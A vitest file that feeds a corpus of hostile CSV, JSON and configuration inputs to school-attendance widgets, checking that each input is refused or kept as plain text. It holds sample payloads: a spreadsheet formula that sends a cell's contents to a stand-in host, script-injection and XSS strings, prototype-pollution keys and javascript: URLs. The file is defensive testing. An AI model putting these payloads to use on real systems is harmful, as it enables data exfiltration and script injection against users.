/**
 * The hostile-input corpus (issue 10, item 1), run through every widget's pure import, parse
 * and configuration functions. Small items are files in test/corpus/; big ones (100,000-row
 * CSV, huge fields, deep nesting, huge arrays, very long strings) are generated here, never
 * committed. Every item: nothing throws, nothing injected runs, Object.prototype is untouched,
 * the person is told what was wrong in words, and the work already open is left as it was
 * (the functions are pure: they return an error instead of changing anything).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { readFileText } from '../../../widgets/shared/export.ts';
import { calculateAttendance } from '../../../widgets/attendance-calculator/calculator.ts';
import * as checklistTransfer from '../../../widgets/attendance-checklist/transfer.ts';
import { resolveChecklistConfig } from '../../../widgets/attendance-checklist/config.ts';
import { defaultConfig as checklistDefaults } from '../../../widgets/attendance-checklist/config-defaults.ts';
import * as fourIsTransfer from '../../../widgets/attendance-four-is/transfer.ts';
import { resolveFourIsConfig, defaultConfig as fourIsDefaults } from '../../../widgets/attendance-four-is/config.ts';
import { importCsv, prepareImport } from '../../../widgets/attendance-four-is/cohort.ts';
import { prepareErrorText, problemText } from '../../../widgets/attendance-four-is/identify-import.ts';
import { rankedCsv } from '../../../widgets/attendance-four-is/exports.ts';
import { builtInTraits } from '../../../widgets/attendance-four-is/model.ts';
import { fourIsLimits } from '../../../widgets/shared/limits.ts';
import { fixedPlan } from '../../../widgets/attendance-four-is/fixtures/plan.ts';
import * as pushPullTransfer from '../../../widgets/attendance-push-pull/transfer.ts';
import { resolvePushPullConfig } from '../../../widgets/attendance-push-pull/config.ts';
import { defaultConfig as pushPullDefaults, defaultSettings as pushPullSettings } from '../../../widgets/attendance-push-pull/config-defaults.ts';
import { readInlineConfig } from '../../../widgets/shared/config.ts';
import { countEachTest } from '../../helpers/trials.ts';

countEachTest('hostile-input', 'Corpus items (CSV, JSON files, settings) run through each widget that reads them');

const corpusDir = new URL('../../corpus/', import.meta.url);
const bytes = (path: string) => new Uint8Array(readFileSync(new URL(path, corpusDir)));
const textOf = (path: string) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes(path));
const files = (dir: string) => readdirSync(new URL(`${dir}/`, corpusDir)).sort();
/** Reads bytes as the widgets read a chosen file: through readFileText, which decodes UTF-8 like the browser. */
async function asFile(data: Uint8Array<ArrayBuffer> | string, maxBytes: number): Promise<string | 'too-large'> {
  const read = await readFileText(new Blob([data]), maxBytes);
  if (!read.ok) {
    expect(read.error).toBe('too-large');
    return 'too-large';
  }
  return read.text;
}

/** A message for a person: words, every placeholder filled. */
function expectMessage(text: string) {
  expect(typeof text).toBe('string');
  expect(text.trim().length).toBeGreaterThan(10);
  expect(text).not.toMatch(/%\{|undefined|\[object Object\]/);
}

const prototypeNames = Object.getOwnPropertyNames(Object.prototype).sort();
declare global {
  // A tripwire the corpus's injected code would set if anything ever ran it.
  var __pwned: unknown;
}
afterEach(() => {
  expect(globalThis.__pwned, 'injected code ran').toBeUndefined();
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeNames);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
});

/** Deep-freezes the work already open, so any change to it throws, and returns a copy to compare. */
function existing<T>(value: T): { value: T; snapshot: string } {
  const freeze = (v: unknown) => {
    if (typeof v === 'object' && v !== null) {
      for (const child of Object.values(v)) freeze(child);
      Object.freeze(v);
    }
  };
  freeze(value);
  return { value, snapshot: JSON.stringify(value) };
}

// ---------------------------------------------------------------------------------------
// JSON imports: every widget that imports a saved file.

interface JsonImporter {
  name: string;
  format: string;
  maxBytes: number;
  parse: (text: string) => { ok: true; value: unknown } | { ok: false; error: { code: string } };
  message: (error: never) => string | Promise<string>;
  open: () => unknown;
  /** Builds a file holding more entries than the widget accepts. */
  hugeArray: () => string;
}

const checklistFile = JSON.parse(textOf('../../widgets/attendance-checklist/fixtures/assessment-file.json')) as { value: unknown };
const pushPullFile = JSON.parse(textOf('../../widgets/attendance-push-pull/fixtures/example-file.json')) as { value: unknown };
const envelope = (format: string, value: unknown) => JSON.stringify({ format, version: 1, exportedAt: '2026-11-27T10:00:00.000Z', value });

const importers: JsonImporter[] = [
  {
    name: 'attendance-checklist',
    format: checklistTransfer.fileFormat,
    maxBytes: checklistTransfer.maxImportBytes,
    parse: (text) => checklistTransfer.parseImport(text, 'assessment'),
    message: (error) => checklistTransfer.importErrorText(error, 'Attendance in assessment'),
    open: () => structuredClone(checklistFile.value),
    hugeArray: () =>
      envelope('attendance-checklist', { checklist: 'assessment', items: Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`item-${i}`, { status: 'done', note: '' }])) }),
  },
  {
    name: 'attendance-four-is',
    format: fourIsTransfer.fileFormat,
    maxBytes: fourIsTransfer.maxImportBytes,
    parse: fourIsTransfer.parseImport,
    message: fourIsTransfer.importErrorText,
    open: fixedPlan,
    hugeArray: () => envelope('attendance-four-is', { ...fixedPlan(), recorded: Array.from({ length: 30_001 }, () => ({})) }),
  },
  {
    name: 'attendance-push-pull',
    format: pushPullTransfer.fileFormat,
    maxBytes: pushPullTransfer.maxImportBytes,
    parse: pushPullTransfer.parseImport,
    message: pushPullTransfer.importErrorText,
    open: () => structuredClone(pushPullFile.value),
    hugeArray: () =>
      envelope('attendance-push-pull', {
        factors: Array.from({ length: 61 }, (_, i) => ({ id: `own-${i}`, from: 'own', label: 'x', lane: 'push', strength: 3, setting: 'in-school', words: '' })),
        adjustments: [],
      }),
  },
];

/** Corpus files a widget may accept: their hostile text is valid data, kept as text and never run. */
const acceptedAsText: Record<string, string[]> = { 'attendance-push-pull': ['markup-values.json'] };

describe.each(importers)('JSON import corpus: $name', (w) => {
  async function refused(text: string | Uint8Array<ArrayBuffer>, expectedCode?: string) {
    const work = existing(w.open());
    const read = await asFile(text, w.maxBytes);
    const result = read === 'too-large' ? ({ ok: false, error: { code: 'too-large' } } as const) : w.parse(read);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    if (expectedCode) expect(result.error.code).toBe(expectedCode);
    expectMessage(await w.message(result.error as never));
    expect(JSON.stringify(work.value)).toBe(work.snapshot);
    return result.error;
  }

  it.each(files('json'))('refuses %s with a message, leaving the open work untouched (no uncaught error, no pollution)', async (name) => {
    const text = textOf(`json/${name}`).replaceAll('%FORMAT%', w.format);
    if (acceptedAsText[w.name]?.includes(name)) {
      const result = w.parse(text);
      expect(result.ok).toBe(true);
      expect(JSON.stringify(result.ok && result.value)).toContain('globalThis.__pwned=1');
      return;
    }
    await refused(text);
  });

  it('refuses prototype-pollution keys (__proto__, constructor, prototype) as forbidden keys, naming them', async () => {
    for (const name of ['proto-key.json', 'proto-key-nested.json', 'constructor-key.json', 'prototype-key.json']) {
      await refused(textOf(`json/${name}`).replaceAll('%FORMAT%', w.format), 'forbidden-key');
    }
  });

  it('refuses a file from a newer version, saying which version', async () => {
    const error = await refused(textOf('json/newer-version.json').replaceAll('%FORMAT%', w.format), 'newer');
    expect(error).toMatchObject({ version: 99 });
    expect(await w.message(error as never)).toContain('99');
  });

  it('refuses a format version it cannot migrate (0, negative) as damaged rather than guessing', async () => {
    for (const name of ['older-version-0.json', 'negative-version.json']) await refused(textOf(`json/${name}`).replaceAll('%FORMAT%', w.format), 'damaged');
  });

  it('limits file size: a file over the import limit is refused before it is parsed', async () => {
    await refused('x'.repeat(w.maxBytes + 1), 'too-large');
    expect(w.parse(' '.repeat(w.maxBytes + 1))).toMatchObject({ ok: false, error: { code: 'too-large' } });
  });

  it('limits nesting: 100,000 levels of arrays or objects are refused without a stack overflow escaping', async () => {
    const depth = 100_000;
    for (const text of [`${'['.repeat(depth)}${']'.repeat(depth)}`, `{"format":"${w.format}","version":1,"value":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`]) {
      if (text.length > w.maxBytes) continue;
      await refused(text);
    }
  });

  it('limits huge arrays: more entries than the widget holds are refused as damaged, saying so', async () => {
    const error = await refused(w.hugeArray(), 'damaged');
    expect(JSON.stringify(error)).toMatch(/more than/);
  });
});

// ---------------------------------------------------------------------------------------
// CSV import: the four Is planner's cohort import (the only CSV importer).

const maxCsvBytes = fourIsLimits.csv;
async function importCorpusCsv(data: Uint8Array<ArrayBuffer> | string) {
  const text = await asFile(data, maxCsvBytes);
  if (text === 'too-large') return { text, result: { ok: false, error: { code: 'too-large' } } as const };
  return { text, result: importCsv(text, builtInTraits) };
}

/** Every outcome says what happened: an error in words, or each row loaded or named with a reason. */
function expectAccounted(result: Awaited<ReturnType<typeof importCorpusCsv>>['result']) {
  if (!result.ok) {
    if (result.error.code === 'mapping') {
      expect(result.error.problems.length).toBeGreaterThan(0);
    } else expectMessage(prepareErrorText(result.error));
    return;
  }
  for (const problem of result.result.problems) expectMessage(problemText(problem));
}

describe('CSV import corpus: attendance-four-is', () => {
  const work = existing(fixedPlan());
  afterEach(() => expect(JSON.stringify(work.value)).toBe(work.snapshot));

  it.each(files('csv'))('reads %s without throwing, and either loads each row or says what was wrong', async (name) => {
    const { result } = await importCorpusCsv(bytes(`csv/${name}`));
    expectAccounted(result);
  });

  it('keeps formula-injection cells as plain text on import, and neutralises them in the export', async () => {
    const { result } = await importCorpusCsv(bytes('csv/formula-injection.csv'));
    if (!result.ok) throw new Error(`expected rows: ${JSON.stringify(result.error)}`);
    const refs = result.result.pupils.map((p) => p.ref);
    expect(refs).toContain('=HYPERLINK("http://evil.example/?"&A2;"Click")');
    expect(refs.some((r) => r.startsWith('@SUM'))).toBe(true);
    const exported = rankedCsv(result.result.pupils, result.result.traits);
    for (const line of exported.split('\r\n')) {
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });

  it('reads mixed line endings (CRLF, LF, CR, and inside quotes) as the right rows and lines', async () => {
    const { result } = await importCorpusCsv(bytes('csv/mixed-line-endings.csv'));
    if (!result.ok) throw new Error('expected rows');
    expect(result.result.pupils.map((p) => p.ref)).toEqual(['FICT-1', 'FICT-2', 'FICT-3', 'FICT-4', 'FICT-5']);
    expect(result.result.pupils[4]!.school).toBe('A B C');
  });

  it('names the line of an unclosed quote instead of swallowing the rest of the file', async () => {
    const { result } = await importCorpusCsv(bytes('csv/unclosed-quote.csv'));
    expect(result).toMatchObject({ ok: false, error: { code: 'unclosed-quote', line: 2 } });
  });

  it('names every bad row with its line and reason (missing reference, bad numbers, duplicates, unknown status)', async () => {
    const { result } = await importCorpusCsv(bytes('csv/bad-values.csv'));
    if (!result.ok) throw new Error('expected a result');
    // Line 6 is refused (unknown status), so "fict-5" on line 7 is the first FICT-5 and line 8 repeats it.
    expect(result.result.pupils.map((p) => p.ref)).toEqual(['fict-5']);
    expect(result.result.problems.map((p) => p.line)).toEqual([2, 3, 4, 5, 6, 8, 9, 10]);
    expect(result.result.problems.find((p) => p.line === 8)!.reasons).toContainEqual({ code: 'duplicate', ref: 'FICT-5', firstLine: 7 });
  });

  it('flags a row with an unquoted comma (more values than headers) rather than shifting its columns', async () => {
    const { result } = await importCorpusCsv(bytes('csv/unquoted-comma.csv'));
    if (!result.ok) throw new Error('expected a result');
    expect(result.result.pupils).toEqual([]);
    expect(result.result.problems[0]!.reasons.some((r) => r.code === 'extra-values')).toBe(true);
  });

  it('refuses a binary file as unusable, saying why (required columns missing, or an unclosed quote)', async () => {
    for (const name of ['binary.csv', 'no-required-columns.csv']) {
      const { result } = await importCorpusCsv(bytes(`csv/${name}`));
      expect(result.ok).toBe(false);
      if (!result.ok && result.error.code === 'mapping') expect(result.error.problems).toContainEqual({ code: 'missing', field: 'ref' });
      else if (!result.ok) expectMessage(prepareErrorText(result.error as never));
    }
  });

  it('reads a UTF-16 file with a byte order mark (a spreadsheet\'s "Unicode text") as the text it holds', async () => {
    const read = await readFileText(new Blob([bytes('csv/utf16le-with-bom.csv')]), maxCsvBytes);
    expect(read).toMatchObject({ ok: true, encoding: 'utf-16le' });
    const { result } = await importCorpusCsv(bytes('csv/utf16le-with-bom.csv'));
    if (!result.ok) throw new Error('expected rows');
    expect(result.result.pupils.map((p) => p.ref)).toEqual(['FICT-1']);
  });

  // Spreadsheets on Windows save CSV in the Windows code page: read as UTF-8 every accented
  // letter would become U+FFFD without a word. Read as Windows-1252 instead, and say so.
  it('reads Latin-1 (Windows-1252) bytes as the letters they are, and says the file was not UTF-8', async () => {
    const read = await readFileText(new Blob([bytes('csv/latin1-encoding.csv')]), maxCsvBytes);
    expect(read).toMatchObject({ ok: true, encoding: 'windows-1252' });
    const { result } = await importCorpusCsv(bytes('csv/latin1-encoding.csv'));
    if (!result.ok) throw new Error('expected rows');
    expect(result.result.pupils.length + result.result.problems.length).toBe(2);
    expect(result.result.pupils.map((p) => p.school).join(' ')).toContain('École St André');
    expect(result.result.pupils.map((p) => p.school).join(' ')).not.toContain('\uFFFD');
  });

  it('keeps markup, RTL and zero-width characters as text (they are data, rendered as text)', async () => {
    const { result } = await importCorpusCsv(bytes('csv/markup-and-rtl.csv'));
    if (!result.ok) throw new Error('expected rows');
    expect(result.result.pupils[0]!.ref).toBe('<img src=x onerror=alert(1)>');
    expect(result.result.pupils[0]!.school).toBe('<script>globalThis.__pwned=1</script>');
  });

  it('limits rows: a generated 100,000-row file is refused as too many rows, with the count, quickly', async () => {
    const header = 'Pupil reference,Possible sessions,Attended sessions,Social worker status\r\n';
    const rows = Array.from({ length: 100_000 }, (_, i) => `FICT-${i},380,${i % 381},CIN`).join('\r\n');
    const started = performance.now();
    const { result } = await importCorpusCsv(header + rows);
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(result).toMatchObject({ ok: false, error: { code: 'too-many-rows', rows: 100_000 } });
    if (!result.ok && result.error.code === 'too-many-rows') expect(prepareErrorText(result.error)).toContain('100,000');
  });

  it('limits file size: a generated CSV over 10 MB is refused before it is read', async () => {
    const big = `Pupil reference\r\n${'x'.repeat(maxCsvBytes)}`;
    expect((await importCorpusCsv(big)).result).toMatchObject({ ok: false, error: { code: 'too-large' } });
    expect(prepareImport(big, builtInTraits)).toMatchObject({ ok: false, error: { code: 'too-large' } });
  });

  it('limits field length: a generated 5 MB field is named as too long, and the other rows load', async () => {
    const text = `Pupil reference,School,Possible sessions,Attended sessions,Social worker status\r\nFICT-1,"${'A,"" '.repeat(1_250_000)}",380,300,CIN\r\nFICT-2,Alder,380,300,CP\r\n`;
    const { result } = await importCorpusCsv(text);
    if (!result.ok) throw new Error('expected rows');
    expect(result.result.pupils.map((p) => p.ref)).toEqual(['FICT-2']);
    expect(result.result.problems[0]!.reasons).toContainEqual({ code: 'too-long', field: 'school', max: fourIsLimits.text });
  });

  it('limits columns: a generated file with more columns than the planner holds is refused, saying how many', async () => {
    const header = Array.from({ length: fourIsLimits.columns + 1 }, (_, i) => `Column ${i}`).join(',');
    const { result } = await importCorpusCsv(`${header}\r\n${'1,'.repeat(fourIsLimits.columns)}1\r\n`);
    expect(result).toMatchObject({ ok: false, error: { code: 'too-many-columns', columns: fourIsLimits.columns + 1 } });
  });
});

// ---------------------------------------------------------------------------------------
// Attribute and configuration values.

const hostile = JSON.parse(textOf('config/hostile-values.json')) as Record<string, string[]>;
const longStrings = ['x'.repeat(100_000), '\u202e'.repeat(10_000), `javascript:${'a'.repeat(10_000)}`, `/${'a/'.repeat(50_000)}`];
const allHostile = [...Object.values(hostile).flat(), ...longStrings];
const unsafeUrl = /^\s*(javascript|data|vbscript|file|blob)\s*:|^\s*\/\/|^\s*\\\\/i;
/** A host element whose inline JSON child holds this text, for readInlineConfig. */
const hostWith = (text: string) => ({ querySelector: () => ({ textContent: text }) }) as unknown as Element;
const inlineFiles = files('config').filter((f) => f.startsWith('inline-'));

interface ConfigUnderTest {
  name: string;
  resolve: (inline: ReturnType<typeof readInlineConfig>, attributes: Record<string, string>) => { config: Record<string, unknown>; errors: string[] };
  attributes: string[];
  urlSetting: string;
  defaults: object;
}

const configs: ConfigUnderTest[] = [
  {
    name: 'attendance-checklist',
    resolve: (i, a) => resolveChecklistConfig(i, a) as never,
    attributes: ['checklist', 'baseUrl', 'attendanceTeam', 'virtualSchool', 'inclusionService', 'hiddenItems'],
    urlSetting: 'baseUrl',
    defaults: checklistDefaults,
  },
  {
    name: 'attendance-four-is',
    resolve: (i, a) => resolveFourIsConfig(i, a) as never,
    attributes: ['smallGroupThreshold', 'responsibilitiesUrl', 'attendanceTeam', 'virtualSchool', 'inclusionService'],
    urlSetting: 'responsibilitiesUrl',
    defaults: fourIsDefaults,
  },
  {
    name: 'attendance-push-pull',
    resolve: (i, a) => resolvePushPullConfig(pushPullSettings(), i, a) as never,
    attributes: ['baseUrl', 'attendanceTeam', 'virtualSchool', 'inclusionService', 'hiddenFactors'],
    urlSetting: 'baseUrl',
    defaults: pushPullDefaults,
  },
];

describe.each(configs)('configuration corpus: $name', (w) => {
  let defaultsSnapshot = '';
  beforeAll(() => {
    defaultsSnapshot = JSON.stringify(w.defaults);
  });
  afterEach(() => expect(JSON.stringify(w.defaults)).toBe(defaultsSnapshot));

  it('never throws on any hostile attribute value, and says which setting was wrong when one is refused', () => {
    for (const attribute of w.attributes) {
      for (const value of allHostile) {
        const { config, errors } = w.resolve({}, { [attribute]: value });
        expect(config).toBeTruthy();
        for (const error of errors) expect(error.length).toBeGreaterThan(10);
      }
    }
  });

  it('refuses script, data and protocol-relative URLs for links, keeping the default and saying so', () => {
    for (const value of [...hostile.scriptUrls!, longStrings[2]!]) {
      const { config, errors } = w.resolve({}, { [w.urlSetting]: value });
      expect(String(config[w.urlSetting])).not.toMatch(unsafeUrl);
      if (unsafeUrl.test(value) || value.length > 500) {
        expect(config[w.urlSetting]).toBe((w.defaults as Record<string, unknown>)[w.urlSetting]);
        expect(errors.length).toBeGreaterThan(0);
      }
    }
  });

  it('limits text length: a 100,000-character local name is refused with a message, not kept', () => {
    const { config, errors } = w.resolve({}, { attendanceTeam: longStrings[0]! });
    expect(JSON.stringify(config).length).toBeLessThan(50_000);
    expect(errors.length).toBeGreaterThan(0);
  });

  it('keeps markup, RTL and zero-width characters in local names as text only (rendered as text, never as markup)', () => {
    for (const value of [...hostile.markup!, ...hostile.bidiAndInvisible!]) {
      const { config } = w.resolve({}, { attendanceTeam: value });
      const names = config.localNames as Record<string, unknown>;
      expect(typeof names.attendanceTeam).toBe('string');
    }
  });

  it.each(inlineFiles)('reads inline JSON %s without throwing or polluting, saying what was wrong', (name) => {
    const inline = readInlineConfig(hostWith(textOf(`config/${name}`)));
    const { config, errors } = w.resolve(inline, {});
    expect(config).toBeTruthy();
    expect(errors.length).toBeGreaterThan(0);
    for (const error of errors) expect(error.length).toBeGreaterThan(10);
    expect(String(config[w.urlSetting])).not.toMatch(unsafeUrl);
  });

  it('refuses prototype-pollution keys in inline JSON, naming them', () => {
    for (const name of ['inline-proto.json', 'inline-constructor.json']) {
      const { errors } = w.resolve(readInlineConfig(hostWith(textOf(`config/${name}`))), {});
      expect(errors.join(' ')).toContain('__proto__');
    }
  });

  it('limits inline JSON length: over 100,000 characters is ignored with a message', () => {
    const { errors } = w.resolve(readInlineConfig(hostWith(`{"x":"${'a'.repeat(100_000)}"}`)), {});
    expect(errors.join(' ')).toMatch(/too long/);
  });
});

describe('calculator typed values corpus', () => {
  it('never throws on hostile typed values, and names the field that is wrong', () => {
    for (const value of allHostile) {
      for (const input of [
        { mode: 'sessions', possible: value, attended: '10' },
        { mode: 'sessions', possible: '380', attended: value },
        { mode: 'percent', percent: value },
      ] as const) {
        const result = calculateAttendance(input);
        if (!result.ok) {
          expect(result.errors.length).toBeGreaterThan(0);
          for (const error of result.errors) expect(['possible', 'attended', 'percent']).toContain(error.field);
        } else expect(Number.isFinite(result.figures.attendancePercent)).toBe(true);
      }
    }
  });
});
